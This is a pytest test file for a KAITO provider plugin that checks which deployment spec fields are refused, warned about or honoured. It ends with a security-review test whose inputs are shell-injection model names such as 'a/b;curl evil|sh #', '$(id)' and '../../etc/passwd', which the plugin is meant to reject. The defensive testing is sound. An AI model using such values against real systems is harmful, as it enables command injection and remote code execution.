"""What is refused or remarked on; and that no field of the spec is dropped in silence."""

from typing import Any

import pytest

from airunway.plugins.contract import Compatibility
from airunway.plugins.errors import SettingsError
from airunway.plugins.registry import host_of, load
from airunway.runtime.translate import check_overrides
from airunway_kaito import provider
from airunway_kaito.compatibility import compatibility as can_handle
from airunway_testing.conformance.fields import Answer, outcomes


def blockers(found: Compatibility) -> dict[str, str]:
    return {finding.path: finding.message for finding in found.blockers}


@pytest.mark.parametrize("engine", ["sglang", "trtllm", "tgi"])
def test_engines_that_kaito_has_not(vllm: Any, context: Any, engine: str) -> None:
    found = can_handle(vllm(), context(engine))
    assert blockers(found) == {"spec.engine.type": f"KAITO does not support {engine} engine"}


def test_disaggregated_mode(vllm: Any, context: Any) -> None:
    role = {"gpu": {"count": 1}, "memory": "1Gi"}
    deployment = vllm(resources=None, serving={"mode": "disaggregated"}, scaling={"prefill": role, "decode": role})
    assert blockers(can_handle(deployment, context())) == {
        "spec.serving.mode": "KAITO does not support disaggregated mode"
    }


@pytest.mark.parametrize(
    ("fields", "path", "text"),
    [
        ({"scaling": {"replicas": 2}}, "spec.scaling.replicas", "serves exactly one replica"),
        ({"scaling": {"replicas": 0}}, "spec.scaling.replicas", "set spec.suspend"),
        ({"resources": {}}, "spec.resources.gpu.count", "vLLM engine requires GPU (set resources.gpu.count > 0)"),
        ({"affinity": {"nodeAffinity": {}}}, "spec.affinity", "use spec.nodeSelector"),
        ({"model": {"source": "custom"}}, "spec.model.source", "needs spec.image"),
        ({"model": {"id": "--port=80"}}, "spec.model.id", "begins with '-'"),
        ({"image": "i", "model": {"id": "--port=80"}}, "spec.model.id", "begins with '-'"),
        (
            {"model": {"id": "o/m", "cache": {"mode": "Shared"}}},
            "spec.model.cache.mode",
            "this provider has no model cache",
        ),
        ({"resources": {"gpu": {"count": 1, "type": "amd.com/gpu"}}}, "spec.resources.gpu.type", "amd.com/gpu"),
        ({"engine": {"args": {"port": "80"}}}, "spec.engine.args[port]", "remove it"),
        (
            {"image": "i", "model": {"id": "o/m", "storage": {"volumes": [{"name": "v", "mountPath": "/v"}]}}},
            "spec.model.storage.volumes[0]",
            "volume v needs claimName (or size), configMap or secret, and mountPath to be mounted",
        ),
        (
            {"image": "i", "model": {"id": "o/m", "storage": {"volumes": [{"name": "v", "claimName": "c"}]}}},
            "spec.model.storage.volumes[0]",
            "volume v needs claimName (or size), configMap or secret, and mountPath to be mounted",
        ),
        (
            {"provider": {"overrides": {"inference": {"template": {"spec": {}}}}}},
            "spec.provider.overrides.inference.template",
            "KAITO preset",
        ),
        (
            {"image": "i", "provider": {"overrides": {"inference": {"preset": {"name": "phi-4"}}}}},
            "spec.provider.overrides.inference.preset",
            "because of spec.image",
        ),
    ],
    ids=str,
)
def test_blockers_name_field_and_way_out(vllm: Any, context: Any, fields: dict[str, Any], path: str, text: str) -> None:
    found = blockers(can_handle(vllm(**fields), context()))
    assert list(found) == [path]
    assert text in found[path]


def test_llamacpp_needs_an_image_and_takes_either_field(llamacpp: Any, context: Any) -> None:
    found = blockers(can_handle(llamacpp(image=None), context("llamacpp")))
    assert list(found) == ["spec.image"]
    assert found["spec.image"].startswith("llamacpp engine requires spec.image to be set")
    assert can_handle(llamacpp(image=None, engine={"image": "i"}), context("llamacpp")).ok


def test_partition_by_override_needs_a_release_that_has_it(vllm: Any, context: Any) -> None:
    overrides = {"resource": {"partition": {"mode": "accelerator", "count": 1}}}
    deployment = vllm(provider={"overrides": overrides})
    assert can_handle(deployment, context()) == Compatibility()
    path = "spec.provider.overrides.resource.partition"
    assert list(blockers(can_handle(deployment, context(release="0.9")))) == [path]


def test_a_preset_says_what_it_decides_itself(vllm: Any, context: Any) -> None:
    deployment = vllm(
        resources={"gpu": {"count": 1}, "memory": "32Gi", "cpu": "4"},
        podTemplate={"metadata": {"labels": {"a": "b"}, "annotations": {"c": "d"}}},
    )
    found = can_handle(deployment, context())
    assert found.ok
    assert [warning.path for warning in found.warnings] == [
        "spec.resources.gpu.count",
        "spec.resources.memory",
        "spec.resources.cpu",
        "spec.podTemplate.metadata.labels",
        "spec.podTemplate.metadata.annotations",
    ]
    assert can_handle(vllm(), context(partition=True)) == Compatibility()


def test_a_repository_without_a_file_is_refused_for_the_runner_only(llamacpp: Any, context: Any) -> None:
    """The founding document appends a name that cannot be derived from the id; started without it, nothing serves."""
    model = {"id": "google/gemma-3-1b-it-qat-q8_0-gguf"}
    found = can_handle(llamacpp(model=model), context("llamacpp"))
    assert [(each.path, each.reason) for each in found.blockers] == [("spec.model.id", "IncompatibleConfiguration")]
    server = llamacpp(model=model, image="ghcr.io/ggml-org/llama.cpp:server")
    assert can_handle(server, context("llamacpp")) == Compatibility()


@pytest.mark.parametrize("settings", [{"nodeProvisoner": "byo"}, {"partition": "half"}, {"gpuNodeSelector": "a=b"}])
def test_wrong_provider_settings_end_the_process_at_its_start_and_nothing_is_guessed(settings: dict[str, Any]) -> None:
    """No deployment is blocked for them any more: the host reads them before the first (docs/providers/contract.md)."""
    with pytest.raises(SettingsError, match=rf"provider kaito: .*'{next(iter(settings))}'"):
        host_of("kaito", provider).settings(settings)


# ------------------------------------------------------------------------------- no field is dropped in silence

FOUND = tuple(outcomes(load("kaito")))

REFUSED = {
    "spec.model.source": {"vllm"},  # an own image has the model: without one there is nothing to start
    # Its pods have no place for weights of a registry.
    "spec.model.uri": {"llamacpp, own image", "llamacpp, own model", "llamacpp, 16 GPUs", "llamacpp on CPU"},
    "spec.resources.gpu.type": {"vllm"},  # the default image is for NVIDIA's
    "spec.serving.mode": {found.base for found in FOUND},
    "spec.affinity": {found.base for found in FOUND},
    "spec.scaling.nodesPerReplica": {found.base for found in FOUND},
    "spec.resources.gpu.deviceClass": {found.base for found in FOUND},
    # The runner (with an own model the program of the image is not known) generates only.
    "spec.model.task": {"llamacpp, own image", "llamacpp, 16 GPUs", "llamacpp on CPU"},
}
"""The fields whose change is refused, and where; everywhere else a refusal is wrong."""


def test_every_field_is_honoured_or_named() -> None:
    assert [found for found in FOUND if found.answer is Answer.IGNORED] == []


def test_refused_is_what_has_to_be() -> None:
    refused: dict[str, set[str]] = {}
    for found in FOUND:
        if found.answer is Answer.REFUSED:
            refused.setdefault(found.field, set()).add(found.base)
            # The refusal is about the field itself, what it is in, or the source that a uri needs.
            (path,) = {finding.path.replace("[0]", "[]") for finding in found.words}
            assert found.field.startswith(path) or (found.field, path) == ("spec.model.uri", "spec.model.source"), found
    assert refused == REFUSED


def test_each_way_of_running_on_kaito_is_asked() -> None:
    """Preset, pod template and llama.cpp, with a model of the hub and with one in the image."""
    assert {found.base for found in FOUND} >= {
        "vllm",
        "vllm, own image",
        "vllm, own model",
        "llamacpp, own image",
        "llamacpp, own model",
        "llamacpp on CPU",
    }


SHELL = ("a/b;curl evil|sh #", "a/$(id)", "a/b c", "a/b\n", "a`id`", "a/b&", "../../etc/passwd", "a//b", "a/b'")


@pytest.mark.parametrize("name", SHELL)
def test_l2_a_name_that_a_shell_would_read_is_no_preset(vllm: Any, context: Any, name: str) -> None:
    """Second security review, L2: KAITO puts the name into the line that starts its container."""
    found = blockers(can_handle(vllm(model={"id": name}), context()))
    assert "which a shell reads" in found["spec.model.id"]
    given = {"inference": {"preset": {"name": name}}}
    (refused,) = check_overrides(given, load("kaito").manifest.override_schema).errors
    assert (refused.path, refused.reason) == ("spec.provider.overrides.inference.preset.name", "InvalidOverride")


@pytest.mark.parametrize("name", ["phi-4-mini-instruct", "meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen2.5_x"])
def test_l2_names_of_presets_and_of_the_hub_are_taken(vllm: Any, context: Any, name: str) -> None:
    assert blockers(can_handle(vllm(model={"id": name}), context())) == {}
    given = {"inference": {"preset": {"name": name}}}
    assert check_overrides(given, load("kaito").manifest.override_schema).errors == ()
